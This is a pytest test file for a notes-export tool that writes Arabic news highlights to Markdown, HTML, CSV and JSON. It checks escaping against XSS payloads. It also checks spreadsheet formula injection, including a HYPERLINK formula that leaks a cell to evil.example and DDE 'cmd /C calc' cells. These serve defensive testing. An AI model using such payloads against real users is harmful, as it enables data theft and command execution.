"""Notes export (Markdown, HTML, CSV, JSON), the NoteRow adapter and `sahifa export` — no Qt."""

from __future__ import annotations

import argparse
import csv
import dataclasses
import io
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from sahifa import __version__
from sahifa.cli.export import cmd_export, register
from sahifa.core import export
from sahifa.core.export import (
    CSV_FIELDS,
    ExportNote,
    css_colour,
    export_csv,
    export_html,
    export_json,
    export_markdown,
    write_export,
)
from sahifa.services.notes_export import note_rows_to_export

SCRIPT = "<script>alert('x')</script>"
IMG = "<img src=x onerror=alert(1)>"

AR1 = "التقى الرئيس الأمريكي دونالد ترامب بالرئيس السوري أحمد الشرع في الرياض يوم الأربعاء."
EN1 = "US President Donald Trump met Syrian President Ahmed al-Sharaa in Riyadh on Wednesday."
AR2 = "قُتل 12 مدنيًا على الأقل في القصف"
EN2 = "At least 12 civilians were killed in the shelling."
AR3 = f"أعلنت قوات سوريا الديمقراطية (قسد) سيطرتها {IMG} على المدينة\n\nوقال المتحدث إن المعارك انتهت"

NOTES = [
    ExportNote(
        article_path="/news/a.txt", title="ترامب يلتقي الشرع في الرياض", source="الجزيرة",
        published="2025-05-14", color="yellow", arabic=AR1, english=EN1,
        note=f"First meeting in 25 years {SCRIPT}",
        entities=("Donald Trump · دونالد ترامب", "Riyadh · الرياض"),
        created="2025-05-20T10:00:00", updated="2025-05-20T10:00:00",
    ),
    ExportNote(
        article_path="/news/a.txt", title="ترامب يلتقي الشرع في الرياض", source="الجزيرة",
        published="2025-05-14", color="#74C0FC", arabic=AR2, english=EN2,
        note='# not a heading, "quoted", with a comma\nand a second line',
        entities=(), created="2025-05-20T10:05:00", updated="2025-05-21T09:00:00",
    ),
    ExportNote(
        article_path="/news/b.txt", title="قسد تعلن السيطرة", source=None, published=None,
        color="pink", arabic=AR3, english=None, note=f"ملاحظة {IMG}", entities=("SDF · قسد",),
        created="2025-05-22T08:00:00", updated="",
    ),
]


# --------------------------------------------------------------------------------------- JSON


def test_json_has_every_field_and_round_trips() -> None:
    text = export_json(NOTES, exported="2025-06-01T00:00:00+00:00")
    assert "دونالد ترامب" in text  # ensure_ascii=False: Arabic is stored as Arabic, not \\u escapes
    data = json.loads(text)
    assert isinstance(data, list) and len(data) == 3
    first = data[0]
    assert set(first) == {*CSV_FIELDS, "exported", "generator"}
    assert first["article"] == "/news/a.txt"
    assert first["title"] == NOTES[0].title
    assert first["outlet"] == "الجزيرة"
    assert first["date"] == "2025-05-14"
    assert first["colour"] == "yellow"
    assert first["arabic"] == AR1
    assert first["english"] == EN1
    assert first["note"] == NOTES[0].note  # JSON is data: the note is kept verbatim
    assert first["entities"] == ["Donald Trump · دونالد ترامب", "Riyadh · الرياض"]
    assert first["created"] == "2025-05-20T10:00:00"
    assert first["exported"] == "2025-06-01T00:00:00+00:00"
    assert first["generator"] == f"Sahifa {__version__}"
    assert data[1]["colour"] == "blue"  # a palette hex is named
    assert data[2]["english"] == "" and data[2]["outlet"] == "" and data[2]["arabic"] == AR3


def test_json_default_timestamp_is_iso() -> None:
    from datetime import datetime

    data = json.loads(export_json(NOTES[:1]))
    assert datetime.fromisoformat(data[0]["exported"]).tzinfo is not None


# ---------------------------------------------------------------------------------------- CSV


def test_csv_parses_back_with_header_and_all_fields() -> None:
    rows = list(csv.reader(io.StringIO(export_csv(NOTES))))
    assert rows[0] == list(CSV_FIELDS)
    assert len(rows) == 4
    records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert records[0]["arabic"] == AR1
    assert records[0]["english"] == EN1
    assert records[0]["entities"] == "Donald Trump · دونالد ترامب; Riyadh · الرياض"
    assert records[1]["note"] == NOTES[1].note  # quotes, commas and newlines survive
    assert records[2]["arabic"] == AR3
    assert records[2]["date"] == ""


HOSTILE_CELLS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "arabic": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)",
    "english": "-2+3+cmd|' /C calc'!A0",
    "outlet": "\t=1+1",
    "date": "\r=1+1",
    "article": "  =evil.txt",                            # leading spaces are trimmed by some spreadsheets
    "colour": "\u200f=1",                                # a right-to-left mark before the formula
    "created": "\uff1dSUM(1)",                           # a full-width equals sign
    "updated": "\n@x",
}


def test_csv_cells_never_start_a_formula() -> None:
    """OWASP CSV injection: a passage or note starting with = + - @ (or tab/CR, after spaces or a
    bidi mark) must open as text, not run; a plain negative number stays a number."""
    n = ExportNote(
        article_path=HOSTILE_CELLS["article"], title=HOSTILE_CELLS["title"], source=HOSTILE_CELLS["outlet"],
        published=HOSTILE_CELLS["date"], color=HOSTILE_CELLS["colour"],
        arabic=HOSTILE_CELLS["arabic"],
        english=HOSTILE_CELLS["english"], note=HOSTILE_CELLS["note"],
        entities=("=cmd|' /C calc'!A0", "SDF · قسد"),
        created=HOSTILE_CELLS["created"], updated=HOSTILE_CELLS["updated"],
    )
    dash = dataclasses.replace(n, arabic="\u200f- " + AR2)  # Arabic after a right-to-left mark and a dash
    safe = ExportNote("/n/a.txt", "-12.5", None, "-3", "yellow", "+7", "1e5", "-0.25", (), "", "")
    rows = list(csv.reader(io.StringIO(export_csv([n, dash, safe]))))
    record = dict(zip(rows[0], rows[1], strict=True))
    for field, value in HOSTILE_CELLS.items():
        assert record[field] == "'" + value, field  # the whole text kept, after the quote
    assert record["entities"] == "'=cmd|' /C calc'!A0; SDF · قسد"
    assert dict(zip(rows[0], rows[2], strict=True))["arabic"] == "'\u200f- " + AR2
    numbers = dict(zip(rows[0], rows[3], strict=True))
    assert (numbers["title"], numbers["date"], numbers["arabic"], numbers["english"], numbers["note"]) == \
        ("-12.5", "-3", "+7", "1e5", "-0.25")
    assert numbers["article"] == "/n/a.txt" and numbers["colour"] == "yellow"
    for cells in rows[1:]:  # nothing a spreadsheet would evaluate
        for cell in cells:
            first = cell.lstrip(" \n\u200f")[:1]
            assert first not in ("=", "+", "-", "@", "\t", "\r", "\uff1d") or re.fullmatch(r"[+-][0-9.e]+", cell)


@pytest.mark.parametrize(("cell", "expected"), [
    ("-12.5", "-12.5"), ("+3", "+3"), ("-", "'-"), ("- بند أول", "'- بند أول"), ("--1", "'--1"),
    ("-1-1", "'-1-1"), ("-١٢", "'-١٢"), ("@", "'@"), ("", ""), ("   ", "   "), ("قال: =1", "قال: =1"),
    ("a=1", "a=1"), ("\u200e\u200f", "\u200e\u200f"),
])
def test_spreadsheet_safe(cell: str, expected: str) -> None:
    assert export.spreadsheet_safe(cell) == expected


def test_csv_file_has_bom_for_excel(tmp_path: Path) -> None:
    out = tmp_path / "notes.csv"
    write_export(NOTES, "csv", out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\xef\xbb\xbf") == 1
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][0] == "article"  # the BOM is not glued to the first header
    assert rows[1][CSV_FIELDS.index("arabic")] == AR1
    assert len(rows) == 4


# --------------------------------------------------------------------------------------- HTML


class _Collector(HTMLParser):
    """Start tags with their attributes, and the text inside each rtl blockquote."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.rtl_quotes: list[str] = []
        self.text: list[str] = []
        self._in_rtl = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.tags.append((tag, a))
        if tag == "blockquote" and a.get("dir") == "rtl":
            self._in_rtl += 1
            self.rtl_quotes.append("")
        elif tag == "br" and self._in_rtl:
            self.rtl_quotes[-1] += "\n"

    def handle_endtag(self, tag: str) -> None:
        if tag == "blockquote" and self._in_rtl:
            self._in_rtl -= 1

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._in_rtl:
            self.rtl_quotes[-1] += data


def _parse(doc: str) -> _Collector:
    p = _Collector()
    p.feed(doc)
    p.close()
    return p


def test_html_is_a_standalone_rtl_document() -> None:
    doc = export_html(NOTES, heading="My notes")
    assert doc.startswith("<!DOCTYPE html>")
    p = _parse(doc)
    names = [t for t, _ in p.tags]
    assert '<meta charset="utf-8">' in doc
    assert names.count("h2") == 2  # grouped by article
    quotes = [a for t, a in p.tags if t == "blockquote" and a.get("dir") == "rtl"]
    assert len(quotes) == 3 and all(a.get("lang") == "ar" for a in quotes)
    assert p.rtl_quotes[0] == AR1
    assert p.rtl_quotes[1] == AR2
    assert "سيطرتها" in p.rtl_quotes[2] and IMG in p.rtl_quotes[2]  # shown as text, not an image
    text = "".join(p.text)
    assert EN1 in text and EN2 in text
    assert "الجزيرة · \u200e2025-05-14" in text  # LRM: the date stays 2025-05-14 in RTL
    assert "Donald Trump · دونالد ترامب" in text
    assert "My notes" in text
    assert "Amiri" in doc and "Noto Naskh Arabic" in doc and "DejaVu Sans" in doc
    h2 = [a for t, a in p.tags if t == "h2"]
    assert all(a.get("dir") == "rtl" for a in h2)  # Arabic titles read right to left


def test_html_escapes_hostile_notes_and_passages() -> None:
    doc = export_html(NOTES)
    for raw in (SCRIPT, IMG, "<script", "<img"):
        assert raw not in doc
    assert "&lt;script&gt;" in doc and "&lt;img src=x onerror=alert(1)&gt;" in doc
    names = {t for t, _ in _parse(doc).tags}
    assert "script" not in names and "img" not in names
    # hostile titles, outlets, paths, entities and headings are data too
    evil = ExportNote(
        f"/tmp/{SCRIPT}.txt", SCRIPT, IMG, '"><b>', 'red;}</style><script>x', SCRIPT, IMG, "", (SCRIPT,), "", ""
    )
    doc = export_html([evil], heading=SCRIPT)
    assert "<script" not in doc and "<img" not in doc and "<b>" not in doc and "</style><" not in doc
    assert {t for t, _ in _parse(doc).tags} == {"html", "head", "meta", "title", "style", "body", "h1", "p",
                                               "section", "h2", "div", "span", "blockquote"}


def test_html_colour_swatch_per_note() -> None:
    p = _parse(export_html(NOTES))
    swatches = [a["style"] for t, a in p.tags if t == "span" and a.get("class") == "swatch"]
    assert len(swatches) == 3
    assert "#ffe066" in str(swatches[0]) and "#74c0fc" in str(swatches[1]) and "#faa2c1" in str(swatches[2])


@pytest.mark.parametrize(
    ("given", "css"),
    [("yellow", "#ffe066"), ("#ABCDEF", "#abcdef"), ("teal", "teal"), ("", "#ced4da"),
     ("red;background:url(x)", "#ced4da"), ("#12345g", "#ced4da")],
)
def test_css_colour_never_passes_raw_strings(given: str, css: str) -> None:
    assert css_colour(given) == css


# ----------------------------------------------------------------------------------- Markdown


def test_markdown_has_rtl_blocks_and_english() -> None:
    md = export_markdown(NOTES, heading="Notes")
    assert md.startswith("# Notes\n")
    assert "## ترامب يلتقي الشرع في الرياض" in md and "## قسد تعلن السيطرة" in md
    assert md.count("## ") == 2
    assert f'<div dir="rtl" lang="ar">\n{AR1}\n</div>' in md
    assert f"> {EN1}" in md and f"> {EN2}" in md
    assert "الجزيرة · \u200e2025-05-14" in md
    assert "Donald Trump · دونالد ترامب" in md
    assert "*Colour:* yellow" in md and "*Colour:* blue" in md


def test_markdown_html_block_has_no_blank_line() -> None:
    """A blank line would end the HTML block and turn the rest into Markdown."""
    md = export_markdown(NOTES[2:])
    block = md.split('<div dir="rtl" lang="ar">\n', 1)[1].split("</div>", 1)[0]
    assert "\n\n" not in block
    assert "سيطرتها" in block and "المعارك انتهت" in block


def test_markdown_escapes_user_text() -> None:
    md = export_markdown(NOTES)
    assert SCRIPT not in md and IMG not in md
    assert not re.search(r"(?<!\\)<(script|img)", md)  # every "<" of user text is escaped
    assert "&lt;img src=x onerror=alert(1)&gt;" in md  # inside the rtl div: HTML-escaped
    assert r"\<script\>" in md  # outside: backslash-escaped
    assert "\n# not a heading" not in md and r"\# not a heading" in md


@pytest.mark.parametrize(
    ("text", "expected"),
    [("# title", r"\# title"), ("- item", r"\- item"), ("+ item", r"\+ item"), ("1. one", r"1\. one"),
     ("> quote", r"\> quote"), ("*bold*", r"\*bold\*"), ("[a](b)", r"\[a\](b)"), ("a_b", r"a\_b"),
     ("x | y", r"x \| y"), ("plain 3.5 text", "plain 3.5 text"), ("نص عربي", "نص عربي")],
)
def test_markdown_escape(text: str, expected: str) -> None:
    assert export._md_escape(text) == expected


def test_empty_exports_are_valid() -> None:
    assert json.loads(export_json([])) == []
    assert list(csv.reader(io.StringIO(export_csv([])))) == [list(CSV_FIELDS)]
    doc = export_html([])
    assert doc.rstrip().endswith("</html>") and "0 notes" in doc
    assert export_markdown([]).startswith("# Sahifa notes")


# ------------------------------------------------------------------------------------- files


@pytest.mark.parametrize("fmt", ["md", "markdown", "html", "csv", "json"])
def test_write_export_writes_utf8(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"notes.{fmt}"
    write_export(NOTES, fmt, out)
    text = out.read_text(encoding="utf-8-sig")
    assert "دونالد ترامب" in text
    assert [p.name for p in tmp_path.iterdir()] == [out.name]  # no temp file left behind
    if os.name == "posix":
        assert out.stat().st_mode & 0o044  # readable by others like any new file, not mkstemp's 0600


def test_write_export_is_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "notes.json"
    out.write_text("previous export", encoding="utf-8")

    def broken_fsync(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "fsync", broken_fsync)
    with pytest.raises(OSError, match="No space"):
        write_export(NOTES, "json", out)
    assert out.read_text(encoding="utf-8") == "previous export"  # old file untouched
    assert [p.name for p in tmp_path.iterdir()] == ["notes.json"]  # no partial/temp file

    monkeypatch.undo()
    fresh = tmp_path / "fresh.md"

    def broken_replace(src: str, dst: Any) -> None:
        raise PermissionError("denied")

    monkeypatch.setattr(export.os, "replace", broken_replace)
    with pytest.raises(PermissionError):
        write_export(NOTES, "md", fresh)
    assert not fresh.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.json"]


def test_write_export_rejects_pdf_and_unknown_formats(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="Qt"):
        write_export(NOTES, "pdf", tmp_path / "x.pdf")
    with pytest.raises(ValueError, match="unknown export format"):
        write_export(NOTES, "docx", tmp_path / "x.docx")
    assert list(tmp_path.iterdir()) == []


# ----------------------------------------------------------------------------------- adapter


def _row(**kw: Any) -> SimpleNamespace:
    base: dict[str, Any] = dict(
        id=1, article_path="/news/a.txt", start=0, end=10, color="green", text="my note", pane="ar",
        created="2025-05-20T10:00:00", updated="2025-05-20T11:00:00", passage=AR1, extra={},
        article_id=1, article_title="عنوان", article_source="الجزيرة", article_published="2025-05-14",
        english=EN1, entities=("دونالد ترامب",), entity_keys=("k-trump",),
    )
    base.update(kw)
    return SimpleNamespace(**base)


def test_adapter_maps_note_rows() -> None:
    [n] = note_rows_to_export([_row()])
    assert n == ExportNote("/news/a.txt", "عنوان", "الجزيرة", "2025-05-14", "green", AR1, EN1, "my note",
                           ("دونالد ترامب",), "2025-05-20T10:00:00", "2025-05-20T11:00:00")
    [n] = note_rows_to_export([_row()], entity_labels={"k-trump": "Donald Trump · دونالد ترامب"})
    assert n.entities == ("Donald Trump · دونالد ترامب",)


def test_adapter_tolerates_gaps() -> None:
    [n] = note_rows_to_export([SimpleNamespace(article_path="/c.txt")])  # almost nothing known
    assert n.title == "c.txt" and n.english is None and n.entities == () and n.color == "yellow"


def test_adapter_prefers_the_english_the_user_selected() -> None:
    [n] = note_rows_to_export([_row(extra={"en_passage": "Donald Trump met"})])
    assert n.english == "Donald Trump met"


def test_adapter_against_the_real_library(tmp_path: Path) -> None:
    from sahifa.core.model import Note
    from sahifa.storage.library import Library

    lib = Library(tmp_path / "library.db")
    try:
        lib.add_note(Note(article_path="/gone/a.txt", start=0, end=5, color="blue", text="x", passage="قسد"))
        rows = lib.notes()
    finally:
        lib.close()
    [n] = note_rows_to_export(rows)
    assert (n.article_path, n.title, n.color, n.arabic, n.note) == ("/gone/a.txt", "a.txt", "blue", "قسد", "x")
    assert n.created


# ---------------------------------------------------------------------------------------- CLI


class FakeLibrary:
    def __init__(self, rows: list[Any]) -> None:
        self.rows = rows
        self.calls: list[tuple[Any, tuple[str, ...]]] = []
        self.closed = False

    def resolve_entity(self, name: str) -> str | None:
        return {"Donald Trump": "k-trump", "ترامب": "k-trump"}.get(name)

    def article_id(self, path: str) -> int | None:
        return 7 if path.endswith("a.txt") else None

    def notes(self, *, article_id: int | None = None, entity_keys: Any = ()) -> list[Any]:
        self.calls.append((article_id, tuple(entity_keys)))
        return [r for r in self.rows if not entity_keys or set(entity_keys) <= set(r.entity_keys)]

    def entities(self) -> list[Any]:
        return [SimpleNamespace(key="k-trump", label_en="Donald Trump", canonical="دونالد ترامب")]

    def close(self) -> None:
        self.closed = True


def _run(argv: list[str], lib: FakeLibrary, monkeypatch: pytest.MonkeyPatch) -> int:
    parser = argparse.ArgumentParser(prog="sahifa")
    register(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["export", *argv])
    monkeypatch.setattr("sahifa.cli.export._open_library", lambda: lib)
    assert args.func is cmd_export
    return int(args.func(args))


def test_cli_json_to_stdout_with_entity_filter(monkeypatch: pytest.MonkeyPatch, capsysbinary: Any) -> None:
    lib = FakeLibrary([_row(), _row(id=2, entity_keys=(), entities=())])
    assert _run(["--format", "json", "--entity", "Donald Trump"], lib, monkeypatch) == 0
    out = capsysbinary.readouterr().out.decode("utf-8")
    data = json.loads(out)
    assert len(data) == 1 and data[0]["entities"] == ["Donald Trump · دونالد ترامب"]
    assert lib.calls == [(None, ("k-trump",))] and lib.closed


def test_cli_unknown_entity_is_a_one_line_error(monkeypatch: pytest.MonkeyPatch, capsys: Any) -> None:
    lib = FakeLibrary([_row()])
    assert _run(["-f", "md", "--entity", "Nobody"], lib, monkeypatch) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Nobody" in err
    assert lib.closed and lib.calls == []


def test_cli_unknown_article(monkeypatch: pytest.MonkeyPatch, capsys: Any) -> None:
    assert _run(["-f", "md", "--article", "/nope/z.txt"], FakeLibrary([]), monkeypatch) == 2
    assert "not in the library" in capsys.readouterr().err


def test_cli_article_filter(monkeypatch: pytest.MonkeyPatch, capsysbinary: Any) -> None:
    lib = FakeLibrary([_row()])
    assert _run(["-f", "html", "--article", "/news/a.txt"], lib, monkeypatch) == 0
    assert lib.calls == [(7, ())]
    assert 'dir="rtl"' in capsysbinary.readouterr().out.decode("utf-8")


def test_cli_pdf_needs_out(monkeypatch: pytest.MonkeyPatch, capsys: Any) -> None:
    lib = FakeLibrary([_row()])
    assert _run(["--format", "pdf"], lib, monkeypatch) == 2
    assert "--out" in capsys.readouterr().err
    assert lib.calls == []


def test_cli_no_notes_still_writes_a_valid_document(
    monkeypatch: pytest.MonkeyPatch, capsys: Any, tmp_path: Path
) -> None:
    out = tmp_path / "empty.csv"
    assert _run(["--out", str(out)], FakeLibrary([]), monkeypatch) == 0  # format from the extension
    # one sentence that says there was nothing and where the (empty) export went
    assert capsys.readouterr().err == f"sahifa export: no notes to export; {out} holds an empty CSV export (0 notes).\n"
    with out.open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh)) == [list(CSV_FIELDS)]
    out = tmp_path / "empty.json"
    assert _run(["-f", "json", "-o", str(out)], FakeLibrary([]), monkeypatch) == 0
    assert json.loads(out.read_text(encoding="utf-8")) == []


def test_cli_no_notes_to_stdout_says_so(monkeypatch: pytest.MonkeyPatch, capsysbinary: Any) -> None:
    assert _run(["-f", "json"], FakeLibrary([]), monkeypatch) == 0
    captured = capsysbinary.readouterr()
    assert json.loads(captured.out) == []
    assert captured.err.decode() == ("sahifa export: no notes to export; standard output holds an empty JSON "
                                     "export (0 notes).\n")


def test_cli_full_disk_is_a_sentence_and_keeps_the_old_file(monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                                            capsys: Any) -> None:
    out = tmp_path / "notes.csv"
    out.write_text("the earlier export", encoding="utf-8")

    def full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "fsync", full)
    assert _run(["--out", str(out)], FakeLibrary([_row()]), monkeypatch) == 1
    assert capsys.readouterr().err == (f"sahifa export: could not write {out}: the disk is full. Nothing was "
                                       f"written; the earlier {out} is unchanged.\n")
    assert out.read_text(encoding="utf-8") == "the earlier export"
    new = tmp_path / "new.md"
    assert _run(["--out", str(new)], FakeLibrary([_row()]), monkeypatch) == 1
    assert capsys.readouterr().err == f"sahifa export: could not write {new}: the disk is full. Nothing was written.\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.csv"]


def test_cli_writes_files(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: Any) -> None:
    out = tmp_path / "notes.md"
    assert _run(["-f", "md", "-o", str(out)], FakeLibrary([_row()]), monkeypatch) == 0
    assert '<div dir="rtl" lang="ar">' in out.read_text(encoding="utf-8")
    assert "Exported 1 note(s)" in capsys.readouterr().err
    assert _run(["-o", str(tmp_path / "notes.txt")], FakeLibrary([_row()]), monkeypatch) == 2
    assert _run(["-f", "md", "-o", str(tmp_path / "missing" / "n.md")], FakeLibrary([]), monkeypatch) == 2


# --- citing the article in both languages -----------------------------------------------------------


def test_exports_cite_the_article_with_its_english_title(tmp_path: Path, seed_files: list[Path]) -> None:
    """The English of the title (from the aligned translation) is exported beside the Arabic title,
    outlet, date and path, in every format."""
    from sahifa.core.model import Note
    from sahifa.services.ingest import ingest
    from sahifa.services.library import open_library
    from sahifa.services.notes_export import english_titles_for, note_rows_to_export

    with open_library(tmp_path / "lib.db") as lib:
        ingest(lib, seed_files)
        art = next(a for a in lib.articles() if a.title.startswith("أيام داعش"))
        article, _analysis = lib.article(art.id)
        s = article.sentences[3]
        lib.add_note(Note(article_path=article.path, start=s.start, end=s.end, color="yellow", text="n",
                          passage=s.text))
        rows = lib.notes()
        titles = english_titles_for(lib, rows)
    assert titles == {art.id: "ISIS's last days in pictures"}
    notes = note_rows_to_export(rows, titles_en=titles)
    assert notes[0].title_en == "ISIS's last days in pictures" and notes[0].title == art.title
    assert "*ISIS's last days in pictures*" in export.render(notes, "md")
    assert "<i>ISIS&#x27;s last days in pictures</i>" in export.render(notes, "html") or \
        "<i>ISIS's last days in pictures</i>" in export.render(notes, "html")
    rows_csv = list(csv.reader(io.StringIO(export.render(notes, "csv"))))
    assert rows_csv[1][CSV_FIELDS.index("title_en")] == "ISIS's last days in pictures"
    assert rows_csv[1][CSV_FIELDS.index("article")] == article.path
    assert "ISIS's last days in pictures" in json.dumps(json.loads(export.render(notes, "json")), ensure_ascii=False)
